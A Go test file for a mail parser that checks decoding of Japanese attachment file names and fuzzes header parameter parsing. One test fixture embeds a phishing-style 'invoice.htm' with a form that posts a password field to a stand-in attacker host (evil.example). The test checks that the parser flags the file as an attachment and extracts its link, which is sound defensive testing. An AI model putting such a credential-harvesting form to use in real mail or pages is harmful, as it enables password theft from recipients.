package mailparse

import (
	"testing"

	"golang.org/x/text/encoding/japanese"
)

// Attachment names as Japanese mailers write them come out whole.
func TestAttachmentNames(t *testing.T) {
	sjis := func(s string) string { b, _ := japanese.ShiftJIS.NewEncoder().String(s); return b }
	jis := func(s string) string { b, _ := japanese.ISO2022JP.NewEncoder().String(s); return b }
	pct := func(s string) string {
		out := ""
		for i := 0; i < len(s); i++ {
			out += "%" + string("0123456789ABCDEF"[s[i]>>4]) + string("0123456789ABCDEF"[s[i]&15])
		}
		return out
	}
	for _, c := range []struct{ disposition, contentType, want string }{
		{"attachment; filename*=shift_jis''" + pct(sjis("請求書")) + ".pdf", "application/pdf", "請求書.pdf"},
		{"attachment; filename*=iso-2022-jp''" + pct(jis("見積書")) + ".xlsx", "application/octet-stream", "見積書.xlsx"},
		{"attachment; filename*0*=shift_jis''" + pct(sjis("請求"))[:6] + "; filename*1*=" + pct(sjis("請求"))[6:] + pct(sjis("書")) + ".pdf", "application/pdf", "請求書.pdf"},
		{"attachment; filename*0*=UTF-8''%E5%A5%91%E7%B4%84; filename*1=\".pdf\"", "application/pdf", "契約.pdf"},
		{"attachment; filename=\"" + sjis("請求書①.pdf") + "\"", "application/pdf", "請求書①.pdf"},
		{"attachment; filename=\"" + sjis("ソ") + "\"; size=3", "application/octet-stream", "ソ"},
		{"attachment; filename=\"=?shift_jis?B?kL+LgQ==?= =?shift_jis?B?j5EucGRm?=\"", "application/pdf", "請求書.pdf"},
		{"attachment", "application/pdf; name=\"=?UTF-8?B?6KuL5rGC5pu4LnBkZg==?=\"", "請求書.pdf"},
		{"attachment; filename=\"say \\\"hi\\\".txt\"", "text/plain", `say "hi".txt`},
	} {
		mail := "From: a@example.jp\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\n" +
			"Content-Type: " + c.contentType + "\r\nContent-Disposition: " + c.disposition + "\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERg==\r\n--b--\r\n"
		m, err := ParseBytes([]byte(mail), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(m.Attachments) != 1 || m.Attachments[0].Name != c.want {
			var got []string
			for _, a := range m.Attachments {
				got = append(got, a.Name)
			}
			t.Errorf("%q: names %q, want %q", c.disposition, got, c.want)
		}
	}
}

// FuzzParams: any header value parses without panicking, and a name
// decodes to at most a bounded amount of text.
func FuzzParams(f *testing.F) {
	f.Add(`attachment; filename*0*=shift_jis''%90%BF; filename*1*=%8B%81.pdf`)
	f.Add(`attachment; filename="a\"b.txt"; size=3`)
	f.Add("attachment; filename=\"\x83\\\"")
	f.Add(`application/pdf; name="=?UTF-8?B?6KuL5rGC5pu4LnBkZg==?="`)
	f.Fuzz(func(t *testing.T, v string) {
		p := rawParams(v)
		if len(p) > 64 {
			t.Fatalf("%d params", len(p))
		}
		for _, name := range []string{"filename", "name"} {
			if n := paramValue(p, name); len(n) > 16*len(v)+16 {
				t.Fatalf("%q grew to %d bytes", v, len(n))
			}
		}
	})
}

// An HTML file sent as a text part with a name is an attachment, not the
// body; its links still count.
func TestNamedTextPartIsAttachment(t *testing.T) {
	for _, head := range []string{
		"Content-Type: text/html; charset=utf-8; name=\"invoice.htm\"",
		"Content-Type: text/html; charset=utf-8\r\nContent-Disposition: inline; filename=\"invoice.htm\"",
		"Content-Type: text/html; charset=utf-8\r\nContent-Disposition: attachment; filename=\"invoice.htm\"",
	} {
		mail := "From: a@example.jp\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the invoice.\r\n--b\r\n" +
			head + "\r\n\r\n<form action=\"https://evil.example/collect\"><input name=pw></form>\r\n--b--\r\n"
		m, err := ParseBytes([]byte(mail), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(m.Attachments) != 1 || m.Attachments[0].Name != "invoice.htm" || m.Attachments[0].SHA256 == "" {
			t.Errorf("%q: attachments %+v", head, m.Attachments)
		}
		if m.HTML != "" || m.Text != "See the invoice." {
			t.Errorf("%q: body text %q html %q", head, m.Text, m.HTML)
		}
		if len(m.URLs) != 1 || m.URLs[0] != "https://evil.example/collect" {
			t.Errorf("%q: urls %q", head, m.URLs)
		}
	}
}
